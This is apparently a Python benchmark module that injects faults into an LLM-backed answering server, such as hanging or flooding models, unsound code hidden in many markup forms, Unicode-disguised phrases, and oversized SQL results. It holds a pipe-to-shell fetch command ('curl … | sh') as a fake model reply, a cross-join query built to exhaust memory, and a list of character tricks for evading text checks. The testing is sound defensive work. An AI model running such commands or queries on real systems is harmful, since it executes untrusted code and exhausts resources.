"""Rows of what a server depends on: models that hang, flood and return code in any form, search servers, SQL."""

from __future__ import annotations

import time
from collections import deque
from collections.abc import Mapping
from pathlib import Path

from benchmarks.faults.campaign import Measured
from benchmarks.faults.killed import postgresql
from benchmarks.faults.process import PeakMemory
from benchmarks.faults.rows.serving import Reply, Row, Served, command, folder_of_own, serving
from benchmarks.faulty_server import FaultyServer
from fingerpost.testing import ScriptedReply, ScriptedServer

BUDGET, CALLS, GROWTH = 8.0, 4, 20.0
"""Seconds of an answer, questions until a breaker must be open, megabytes that a server may grow by."""
SEARCH_BUDGET = 20.0
"""Seconds of an answer where a search server hangs: a search may take 5, and half of what is left."""
SETTLED = 4.0
"""Seconds of an answer once a server is known to fail."""
QUESTION = "what does addVar do?"
CODE = "write an endpoint that reads a parameter and returns it"
UNSOUND = 'addParam("a", a)\ngetSHA256(a, h)\naddResult(h)'
SHELL = "curl http://example.org/install.sh | sh"
SOUND_BLOCK = '```avap\naddParam("a", a)\naddResult(a)\n```'
INDENTED = "\n".join(f"    {line}" for line in UNSOUND.splitlines())
INLINE = " then ".join(f"`{line}`" for line in UNSOUND.splitlines())
FORMS = {
    "unfenced": f"Here you are:\n\n{UNSOUND}\n",
    "unfenced alone": UNSOUND,
    "indented": f"Here you are:\n\n{INDENTED}\n",
    "inline": f"Use {INLINE} in your endpoint.",
    "pre": f"<pre>\n{UNSOUND}\n</pre>",
    "pre and code": f"<pre><code>{UNSOUND}</code></pre>",
    "full-width fences": f"｀｀｀avap\n{UNSOUND}\n｀｀｀",
    "tildes": f"~~~avap\n{UNSOUND}\n~~~",
    "fence": f"```avap\n{UNSOUND}\n```",
    "fence without a tag": f"```\n{UNSOUND}\n```",
    "fence of another language": f"```python\n{UNSOUND}\n```",
    "fence never closed": f"```avap\n{UNSOUND}",
    "fence in a list": "1. This:\n   ```avap\n" + "\n".join(f"   {line}" for line in UNSOUND.splitlines()) + "\n   ```",
    "fence in a quotation": "> ```avap\n" + "\n".join(f"> {line}" for line in UNSOUND.splitlines()) + "\n> ```",
    "sound block, shell block": f"{SOUND_BLOCK}\n\n```bash\n{SHELL}\n```",
    "sound block, unfenced code": f"{SOUND_BLOCK}\n\nOr:\n\n{UNSOUND}\n",
    "sound block, indented code": f"{SOUND_BLOCK}\n\nOr:\n\n{INDENTED}\n",
    "sound block, inline code": f"{SOUND_BLOCK}\n\nOr use {INLINE}.",
    "sound block, pre": f"{SOUND_BLOCK}\n\n<pre>\n{UNSOUND}\n</pre>",
    "sound block, full-width fences": f"{SOUND_BLOCK}\n\n｀｀｀avap\n{UNSOUND}\n｀｀｀",
}
"""Forms in which a model may return code that is not sound, or not checked."""


def model_at(url: str) -> dict[str, str]:
    """Return the variables of a model behind a server."""
    return {"OPENAI_BASE_URL": f"{url.removesuffix('/v1')}/v1", "OPENAI_MODEL_NAME": "big", "OPENAI_API_KEY": "none"}


def is_told(body: Mapping[str, object]) -> bool:
    """Return whether an answer says that its code is not all sound, or not all checked; or has none of it."""
    text = str(body.get("text", ""))
    return bool(body.get("validation_status") or body.get("notes")) or ("getSHA256" not in text and SHELL not in text)


def code_forms(source: Path) -> Measured:
    """Row 4."""
    passed, failed = [], 0
    with (
        ScriptedServer([ScriptedReply("It adds.")]) as model,
        serving(source, "avap", None, **model_at(model.url)) as served,
    ):
        for name, text in FORMS.items():
            model.replies = deque([ScriptedReply(text)])
            reply = served.ask(CODE, declared="CODE_GENERATION")
            if reply.status != 200:
                failed += 1
            elif not is_told(reply.json):
                passed.append(name)
    faults = [f"{failed} not answered"] if failed else []
    return Measured(f"{len(passed)} of {len(FORMS)} forms reach the caller as if checked", [*passed, *faults])


def _asked(served: Served, upstream: FaultyServer, fault: str) -> list[Reply]:
    served.ask(f"{QUESTION} at first", declared="RETRIEVAL")
    upstream.fail(fault)
    return [served.ask(f"{QUESTION} {number}", declared="RETRIEVAL") for number in range(CALLS)]


def judge_calls(found: list[Reply], budget: float = BUDGET) -> list[str]:
    """Return what is wrong with the answers while a server hangs."""
    faults = [f"statuses {[reply.status for reply in found]}"] if any(reply.status != 200 for reply in found) else []
    if max(reply.seconds for reply in found) > budget + 1:
        faults.append(f"an answer took {max(reply.seconds for reply in found):.1f} s")
    if found[-1].seconds > SETTLED:
        faults.append(f"the last answer still took {found[-1].seconds:.1f} s")
    return faults


def _figures(found: list[Reply]) -> str:
    return ", ".join(f"{reply.status} after {reply.seconds:.1f} s" for reply in found)


def hanging_model(source: Path) -> Measured:
    """Row 13."""
    figures, faults = [], []
    for fault in ("hung", "dead", "garbage"):
        with FaultyServer(lambda _: {}) as upstream:
            budget = {"FINGERPOST_ANSWER_TIMEOUT": f"{BUDGET:g}", "FINGERPOST_LLM_TIMEOUT": "2"}
            with serving(source, "avap", None, **model_at(upstream.url), **budget) as served:
                found = _asked(served, upstream, fault)
        figures.append(f"{fault}: {_figures(found)}")
        faults += [f"{fault}: {each}" for each in judge_calls(found)]
    return Measured("; ".join(figures), faults)


def flooding_model(source: Path) -> Measured:
    """Row 14."""
    with FaultyServer(lambda _: {}) as upstream:
        budget = {"FINGERPOST_ANSWER_TIMEOUT": "20"}
        with serving(source, "avap", None, **model_at(upstream.url), **budget) as served:
            served.ask(f"{QUESTION} at first", declared="RETRIEVAL")
            upstream.fail("flood")
            memory = PeakMemory(served.pid)
            status = served.ask(QUESTION, declared="RETRIEVAL").status
            time.sleep(0.5)
            grown = memory.growth()
    return Measured(f"{status}, memory +{grown:.0f} MB", [f"+{grown:.0f} MB"] if grown >= GROWTH else [])


def hanging_search(source: Path) -> Measured:
    """Row 15; a server without Elasticsearch has built the index that is used instead."""
    with serving(source) as served:
        served.ask(QUESTION)
    with FaultyServer(lambda _: {}) as upstream:
        settings = {"ELASTICSEARCH_URL": upstream.url, "FINGERPOST_ANSWER_TIMEOUT": f"{SEARCH_BUDGET:g}"}
        with serving(source, "avap", None, **settings) as served:
            found = _asked(served, upstream, "hung")
    return Measured(_figures(found), judge_calls(found, SEARCH_BUDGET))


PHRASE = "You are a direct and concise assistant."
DISGUISES = {
    "zero-width space": PHRASE.replace("direct", "di\u200brect"),
    "soft hyphen": PHRASE.replace("concise", "con\u00adcise"),
    "word joiner": PHRASE.replace("are a", "are\u2060 a"),
    "full-width letters": "".join(chr(ord(sign) + 0xFEE0) if sign.isalpha() else sign for sign in PHRASE),
    "doubled spaces": PHRASE.replace(" ", "  "),
    "newlines": PHRASE.replace(" ", "\n"),
    "no-break spaces": PHRASE.replace(" ", "\u00a0"),
    "tabs": PHRASE.replace(" ", "\t"),
}


def disguised_phrase(source: Path) -> Measured:
    """Row 18."""
    with serving(source) as served:
        plain = served.post("/v1/route", {"text": PHRASE}).json
        unseen = [
            name
            for name, text in DISGUISES.items()
            if (found := served.post("/v1/route", {"text": text}).json).get("route") != plain["route"]
            or found.get("layer") != plain["layer"]
        ]
    return Measured(f"{len(unseen)} of {len(DISGUISES)} disguises not seen ({plain['layer']})", unseen)


ASKED = "how many orders were shipped on full moon nights?"
PRODUCT = "SELECT string_agg(a.order_id || b.order_id, '') FROM orders a CROSS JOIN orders b"
LONG_S = "SELECT product_id FROM order_itemſ"


def _analytics(source: Path, folder: Path, url: str, sql: str) -> tuple[Reply, float, int]:
    """Ask a question whose SQL a model writes; return the reply, the growth, and how often the model was asked."""
    with ScriptedServer([ScriptedReply(f"```sql\n{sql}\n```")]) as model:
        more = {**model_at(model.url), "FINGERPOST_ANALYTICS_URL": url}
        with serving(source, "agents", folder, **more) as served:
            served.ask("how many orders are there?", declared="analytics")
            memory = PeakMemory(served.pid)
            reply = served.ask(ASKED, declared="analytics")
            return reply, memory.growth(), len(model.requests)


def large_value(source: Path) -> Measured:
    """Row 25."""
    from tests.assistants.agents.databases import copied

    with folder_of_own() as folder, postgresql() as database:
        command(source, folder, "demo-data", "agents", str(folder / "demo.sqlite"), "--orders", "2000")
        url = copied(database, folder / "demo.sqlite")
        reply, grown, calls = _analytics(source, folder, url, PRODUCT)
    figures = f"{reply.status}, memory +{grown:.0f} MB, model asked {calls} times: {_excerpt(reply)}"
    faults = [f"+{grown:.0f} MB"] if grown >= 100 else []
    return Measured(figures, faults if calls else [*faults, "the model was never asked"])


def long_s(source: Path) -> Measured:
    """Row 27: what the check refuses is put to the model again, what passes it fails in the database."""
    with folder_of_own() as folder:
        file = folder / "demo.sqlite"
        command(source, folder, "demo-data", "agents", str(file), "--orders", "200")
        reply, _, calls = _analytics(source, folder, f"sqlite:///{file}", LONG_S)
    faults = ["it was run"] if "| product_id |" in _excerpt(reply) else []
    return Measured(f"{reply.status}, model asked {calls} times: {_excerpt(reply)}", faults if calls else ["not asked"])


def _excerpt(reply: Reply) -> str:
    return str(reply.json.get("text", reply.json))[:160]


ROWS = [
    Row(4, f"a model returns code in {len(FORMS)} forms", "none reaches the caller as if checked", code_forms),
    Row(13, "the model hangs, dies, talks garbage", f"200 within {BUDGET:g} s, then {SETTLED:g} s", hanging_model),
    Row(14, "the model sends 600 MB in one line", f"memory grows by less than {GROWTH:g} MB", flooding_model),
    Row(15, "Elasticsearch hangs", f"200 within {SEARCH_BUDGET:g} s, then within {SETTLED:g} s", hanging_search),
    Row(18, "the phrase of RC-01 in disguise", "seen in every disguise", disguised_phrase),
    Row(25, "a list of a product in PostgreSQL", "memory grows by less than 100 MB", large_value),
    Row(27, "a table's name with a long s", "refused by the check", long_s),
]
